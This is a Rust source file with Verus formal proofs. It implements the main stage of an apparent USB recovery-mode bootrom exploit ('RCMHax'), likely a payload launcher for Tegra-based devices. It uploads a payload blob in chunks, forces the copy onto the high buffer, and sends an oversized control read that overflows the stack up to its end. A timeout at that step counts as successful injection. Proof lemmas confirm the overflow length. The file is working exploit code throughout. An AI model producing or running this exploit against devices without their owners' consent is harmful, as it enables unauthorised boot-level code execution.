use vstd::prelude::*;
use crate::layout::CHUNK_SIZE;
use crate::session::{BufferSlot, COPY_BUFFER_HIGH, RCMHax, STACK_END, buffer_address, toggle};
use crate::usb::{ControlRead, TRANSFER_TIMEOUT_US, UsbError, overflow_request};

verus! {

/// One operation of the primary path for the caller to perform, each with
/// the one-second transfer timeout.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum PrimaryOp {
    /// Bulk write of `blob[start..end]` to the OUT endpoint.
    WriteChunk { start: usize, end: usize },
    /// Bulk write of `length` zero bytes to the OUT endpoint.
    WriteZeros { length: usize },
    /// The control read that triggers the vulnerability.
    Trigger(ControlRead),
}

/// Where the primary path failed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum PrimaryFailure {
    Upload(UsbError),
    SwitchToHighBuffer(UsbError),
    Trigger(UsbError),
}

/// How the primary path ended: the payload went in, or a step failed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum PrimaryOutcome {
    Injected,
    Failed(PrimaryFailure),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum PrimaryStep {
    Op(PrimaryOp),
    Finished(PrimaryOutcome),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum PrimaryPhase {
    /// The chunk at `start` is being written.
    Upload { start: usize },
    SwitchToHighBuffer,
    Trigger,
    Done(PrimaryOutcome),
}

/// The primary path over one session and a blob of `blob_len` bytes, once
/// the device id has been read: upload the blob chunk by chunk, move to the
/// high buffer, trigger.
pub struct PrimaryRun {
    pub session: RCMHax,
    pub blob_len: usize,
    pub phase: PrimaryPhase,
}

pub open spec fn upload_end(start: usize, len: usize) -> usize {
    if len - start > CHUNK_SIZE { (start + CHUNK_SIZE) as usize } else { len }
}

impl PrimaryRun {
    pub open spec fn wf(&self) -> bool {
        &&& self.phase matches PrimaryPhase::Upload { start } ==> start < self.blob_len
        &&& self.phase is SwitchToHighBuffer ==> self.session.current_buffer == BufferSlot::Low
    }

    pub open spec fn with(self, session: RCMHax, phase: PrimaryPhase) -> PrimaryRun {
        PrimaryRun { session, blob_len: self.blob_len, phase }
    }

    /// The trigger, with the length that reaches from the current buffer to
    /// the end of the stack.
    pub open spec fn trigger(self, session: RCMHax) -> (PrimaryRun, PrimaryStep) {
        (
            self.with(session, PrimaryPhase::Trigger),
            PrimaryStep::Op(
                PrimaryOp::Trigger(
                    overflow_request(
                        0,
                        (STACK_END - buffer_address(session.current_buffer)) as usize,
                        TRANSFER_TIMEOUT_US,
                    ),
                ),
            ),
        )
    }

    /// A dummy chunk when the next copy would come from the low buffer, then the trigger.
    pub open spec fn switch_high(self, session: RCMHax) -> (PrimaryRun, PrimaryStep) {
        if session.current_buffer == BufferSlot::Low {
            (
                self.with(session, PrimaryPhase::SwitchToHighBuffer),
                PrimaryStep::Op(PrimaryOp::WriteZeros { length: CHUNK_SIZE }),
            )
        } else {
            self.trigger(session)
        }
    }

    /// The chunk at `start`, or the move to the high buffer once all is sent.
    pub open spec fn upload_from(self, session: RCMHax, start: usize) -> (PrimaryRun, PrimaryStep) {
        if start < self.blob_len {
            (
                self.with(session, PrimaryPhase::Upload { start }),
                PrimaryStep::Op(
                    PrimaryOp::WriteChunk { start, end: upload_end(start, self.blob_len) },
                ),
            )
        } else {
            self.switch_high(session)
        }
    }

    pub open spec fn finish(self, r: PrimaryOutcome) -> (PrimaryRun, PrimaryStep) {
        (self.with(self.session, PrimaryPhase::Done(r)), PrimaryStep::Finished(r))
    }

    /// The path's first state and step: the upload from the blob's start.
    pub open spec fn begin(session: RCMHax, blob_len: usize) -> (PrimaryRun, PrimaryStep) {
        PrimaryRun { session, blob_len, phase: PrimaryPhase::Upload { start: 0 } }.upload_from(session, 0)
    }

    /// One event of the primary path. Every completed write toggles the buffer slot, and a failed one ends the
    /// path; the trigger's timeout and its normal completion are both success.
    pub open spec fn next(self, ev: Result<usize, UsbError>) -> (PrimaryRun, PrimaryStep) {
        let s = self.session;
        match self.phase {
            PrimaryPhase::Upload { start } => match ev {
                Ok(_) => self.upload_from(
                    RCMHax { current_buffer: toggle(s.current_buffer), ..s },
                    upload_end(start, self.blob_len),
                ),
                Err(e) => self.finish(PrimaryOutcome::Failed(PrimaryFailure::Upload(e))),
            },
            PrimaryPhase::SwitchToHighBuffer => match ev {
                Ok(_) => self.trigger(RCMHax { current_buffer: toggle(s.current_buffer), ..s }),
                Err(e) => self.finish(PrimaryOutcome::Failed(PrimaryFailure::SwitchToHighBuffer(e))),
            },
            PrimaryPhase::Trigger => match ev {
                Ok(_) => self.finish(PrimaryOutcome::Injected),
                Err(UsbError::Timeout) => self.finish(PrimaryOutcome::Injected),
                Err(e) => self.finish(PrimaryOutcome::Failed(PrimaryFailure::Trigger(e))),
            },
            PrimaryPhase::Done(r) => (self, PrimaryStep::Finished(r)),
        }
    }

    /// The primary path on `session` for a blob of `blob_len` bytes.
    pub fn start(session: RCMHax, blob_len: usize) -> (r: (PrimaryRun, PrimaryStep))
        ensures
            r == PrimaryRun::begin(session, blob_len),
            r.0.wf(),
    {
        let mut run = PrimaryRun { session, blob_len, phase: PrimaryPhase::Upload { start: 0 } };
        let step = run.do_upload_from(0);
        (run, step)
    }

    fn do_trigger(&mut self) -> (r: PrimaryStep)
        ensures
            (*final(self), r) == old(self).trigger(old(self).session),
    {
        self.phase = PrimaryPhase::Trigger;
        PrimaryStep::Op(PrimaryOp::Trigger(self.session.trigger_controlled_memcpy(None)))
    }

    fn do_switch_high(&mut self) -> (r: PrimaryStep)
        ensures
            (*final(self), r) == old(self).switch_high(old(self).session),
    {
        if self.session.switch_to_highbuf().is_some() {
            self.phase = PrimaryPhase::SwitchToHighBuffer;
            PrimaryStep::Op(PrimaryOp::WriteZeros { length: CHUNK_SIZE })
        } else {
            self.do_trigger()
        }
    }

    fn do_upload_from(&mut self, start: usize) -> (r: PrimaryStep)
        ensures
            (*final(self), r) == old(self).upload_from(old(self).session, start),
            final(self).wf(),
    {
        if start < self.blob_len {
            self.phase = PrimaryPhase::Upload { start };
            let len = self.blob_len;
            let end = if len - start > CHUNK_SIZE { start + CHUNK_SIZE } else { len };
            PrimaryStep::Op(PrimaryOp::WriteChunk { start, end })
        } else {
            self.do_switch_high()
        }
    }

    fn do_finish(&mut self, r: PrimaryOutcome) -> (step: PrimaryStep)
        ensures
            (*final(self), step) == old(self).finish(r),
    {
        self.phase = PrimaryPhase::Done(r);
        PrimaryStep::Finished(r)
    }

    /// Hands the outcome of the last operation to the primary path and
    /// returns what to do next.
    pub fn on_event(&mut self, ev: Result<usize, UsbError>) -> (r: PrimaryStep)
        requires
            old(self).wf(),
        ensures
            (*final(self), r) == old(self).next(ev),
            final(self).wf(),
    {
        match self.phase {
            PrimaryPhase::Upload { start } => {
                let len = self.blob_len;
                let end = if len - start > CHUNK_SIZE { start + CHUNK_SIZE } else { len };
                match self.session.write_single_buffer(ev) {
                    Ok(_) => self.do_upload_from(end),
                    Err(e) => self.do_finish(PrimaryOutcome::Failed(PrimaryFailure::Upload(e))),
                }
            },
            PrimaryPhase::SwitchToHighBuffer => match self.session.write_single_buffer(ev) {
                Ok(_) => self.do_trigger(),
                Err(e) => self.do_finish(PrimaryOutcome::Failed(PrimaryFailure::SwitchToHighBuffer(e))),
            },
            PrimaryPhase::Trigger => match self.session.backend.trigger_result(ev) {
                Ok(()) => self.do_finish(PrimaryOutcome::Injected),
                Err(e) => self.do_finish(PrimaryOutcome::Failed(PrimaryFailure::Trigger(e))),
            },
            PrimaryPhase::Done(r) => PrimaryStep::Finished(r),
        }
    }
}


/// A trigger transfer that times out ends the primary path in success, and so
/// does one that completes normally; any other error ends it in failure.
pub proof fn lemma_trigger_outcome(run: PrimaryRun, ev: Result<usize, UsbError>)
    requires
        run.phase == PrimaryPhase::Trigger,
    ensures
        run.next(ev).1 == PrimaryStep::Finished(
            if ev is Ok || ev == Err::<usize, UsbError>(UsbError::Timeout) {
                PrimaryOutcome::Injected
            } else {
                PrimaryOutcome::Failed(PrimaryFailure::Trigger(ev->Err_0))
            },
        ),
{
}

/// The trigger only ever goes out while the next copy comes from the high
/// buffer, so it asks for exactly the span from that buffer to the stack's end.
pub proof fn lemma_trigger_from_high_buffer(run: PrimaryRun, ev: Result<usize, UsbError>)
    requires
        run.wf(),
    ensures
        run.next(ev).1 matches PrimaryStep::Op(PrimaryOp::Trigger(req)) ==> req.length == (STACK_END
            - COPY_BUFFER_HIGH) as usize,
{
}

} // verus!
